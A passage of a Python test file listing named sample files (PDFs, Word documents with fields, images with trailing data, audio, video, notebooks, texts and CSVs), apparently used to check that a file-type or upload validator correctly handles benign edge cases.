    "a PDF that quotes code": ("review.pdf", samples.pdf(words="We write <script> and /JavaScript and 3 0 obj. " * 9)),
    "a PDF in a stream of objects": ("review.pdf", in_object_stream(b"<</S/GoTo/D[0 /Fit]>>")),
    "an encrypted PDF without a password": ("review.pdf", encrypted(linked)),
    "a scan": ("review.pdf", samples.pdf(words="")),
    "a PDF behind an empty line": ("review.pdf", b"\n" + samples.pdf()),
    "a Word document": ("review.docx", docx()),
    "a Word document with a link": ("review.docx", docx(a=LINK)),
    "a Word document with a picture": ("review.docx", docx({"word/media/image1.png": samples.PNG})),
    "a Word document with fields": ("review.docx", docx(field_text("PAGE ", ' TOC \\o "1-3" ', "DATE"))),
    "a Word document with fields in fields": (
        "review.docx",
        docx(nested("{", ' TOC \\o "1-3" ', "|", "{", " PAGEREF _Toc1 ", "|", "}", "}", "{", " =", "{", " PAGE ", "}",
                    " + 1 ", "}", "{", " IF ", "{", " PAGE ", "}", " = 1 &quot;a link here&quot; ", "}",
                    "{", ' HYPERLINK "https://arxiv.org" \\o "a link to quote 5 of" ', "|", "}", "}")),
    ),
    "a long Word document": (
        "review.docx",
        docx({"word/footnotes.xml": "<x>" + "".join(f"{n} words of text " for n in range(200_000)) + "</x>"}),
    ),
    "a picture": ("plot.png", samples.PNG),
    "a photo": ("plot.JPG", b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + b"\0" * 200 + b"\xff\xd9"),
    "a photo with a thumbnail": ("plot.jpg", JPEG),
    "a phone's photo with another behind it": ("plot.jpg", JPEG + b"\0" * 30 + JPEG),
    "a phone's photo that moves": ("plot.jpg", JPEG + samples.MP4),
    "a phone's photo with notes": ("plot.jpg", JPEG + b"\0\0\1\x0a\x0e\0\0\0Image_UTC_Data1700000000000SEFH\0\0SEFT"),
    "a picture behind which nothing counts": ("plot.png", png(b"\0" * 5000 + b"made by hand\r\n")),
    "a photo cut short": ("plot.jpg", JPEG[:50]),
    "two photos, one cut short": ("plot.jpg", JPEG + JPEG[:50]),
    "a GIF with a trailer's byte inside": ("pong.gif", GIF),
    "a WebP": ("plot.webp", WEBP),
    "a Word document with drawings": (
        "review.docx",
        docx({"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
              "word/media/image2.emf": b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 60, "word/media/image3.jpeg": JPEG,
              "word/media/image4.webp": WEBP, "word/media/": b""}),
    ),
    "a PDF that leads to another beside it": (
        "review.pdf", pdf_with(pressed("GoToR", F=TextStringObject("appendix.pdf"))),
    ),
    "a text that begins with a number": ("notes.txt", b"+1 more GPU hour, +\xc3\xa4 and +AD"),
    "a plain text that begins with a number": ("notes.txt", b"+1 more GPU hour"),
    "a text with headings like a mail": (
        "notes.txt", b"Title: Rain\nDate: today\n\nThe content-type: text/html is a header.\n",
    ),
    "code to read": ("lab.txt", b"import os\nparam = 1\n# @echo off would be a batch file\n"),
    "a GIF": ("pong.gif", b"GIF89a\1\0\1\0\x80\0\0" + b"\0" * 40 + b";"),
    "a BMP": ("plot.bmp", bmp()),
    "a BMP from OS/2": ("plot.bmp", bmp(header=12)),
    "a BMP with a color profile": ("plot.bmp", profiled()),
    "a BMP that says it has no size": ("plot.bmp", bmp(b"\0\0\0\0")),
    "a BMP whose size looks like a remark": ("plot.bmp", bmp(b"/*\0\0")),
    "a photo of an iPhone": ("plot.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 64),
    "a picture for print": ("plot.tif", b"II*\0" + b"\0" * 64),
    "a raw MP3": ("song.mp3", b"\xff\xf3\x90\x44" + b"\0" * 300),
    "a song in AAC": ("song.aac", b"\xff\xf1\x50\x80" + b"\0" * 300),
    "a song in Ogg": ("song.opus", b"OggS\0\2" + b"\0" * 22 + b"\1\x13OpusHead" + b"\0" * 90),
    "a melody in MIDI": ("song.mid", b"MThd\0\0\0\6\0\1\0\1\0\x60MTrk" + b"\0" * 40),
    "a video for the web": ("pong.webm", b"\x1aE\xdf\xa3\x9fB\x86\x81\1B\x82\x84webm" + b"\0" * 99),
    "a video in Ogg": ("pong.ogv", b"OggS\0\2" + b"\0" * 22 + b"\1\x2a\x80theora" + b"\0" * 90),
    "a video in pieces": ("pong.mp4", b"\0\0\0\x18ftypiso5\0\0\2\0iso5dash" + b"\0" * 64),
    "a video from an old Mac": ("pong.mov", b"\0\0\0\x08wide\0\0\0\x20mdat" + b"\0" * 99),
    "a recording": ("song.wav", wav()),
    "a song": ("song.mp3", samples.MP3),
    "a song in an MP4": ("song.m4a", b"\0\0\0\x18ftypM4A \0\0\x02\0isomiso2" + b"\0" * 64),
    "a video": ("pong.mp4", samples.MP4),
    "a notebook": ("lab.ipynb", samples.notebook()),
    "a notebook with outputs": ("lab.ipynb", rich_notebook()),
    "a notebook behind a mark": ("lab.ipynb", b"\xef\xbb\xbf" + samples.notebook()),
    "a text with emoji": ("notes.txt", "Ça marche 👩🏽‍🔬, und zwar über Züge: 日本語, עברית.".encode()),
    "a text that quotes code": ("notes.md", CODE_IN_PROSE.encode()),
    "a text with less-than signs": ("notes.txt", b"<3 this course; 3 < 5 > 2 and <your name here>"),
    "a text that begins with MZ": ("notes.txt", b"MZ is how Windows programs begin."),
    "a text from Notepad": ("notes.txt", "Grüße\r\n".encode("utf-16")),
    "a text without an ending": ("notes", b"Just a text."),
    "a table with formulas": ("losses.csv", b"step,loss,sum\n1,-0.5,=A2+B2\n2,+1,=SUM(A2:B3)\n"),
    "a list with bars": ("notes.md", b"- see a | b!\n- f|g and h!x\n| = | x |\n- an image(x), a call(y)\n@ana | hi!\n"),
    "a list in brackets": ("notes.txt", b"[1] Vaswani et al.\n[2] Amini et al.\n"),
    "numbers": ("losses.csv", b"step,loss\n1,-0.5\n"),
    "a melody in ABC": ("song.abc", b"X:1\nT:Tune\nK:G\nGABc dedB|"),
    "settings": ("config.json", b'{"learning_rate": 0.001}'),
}  # fmt: skip
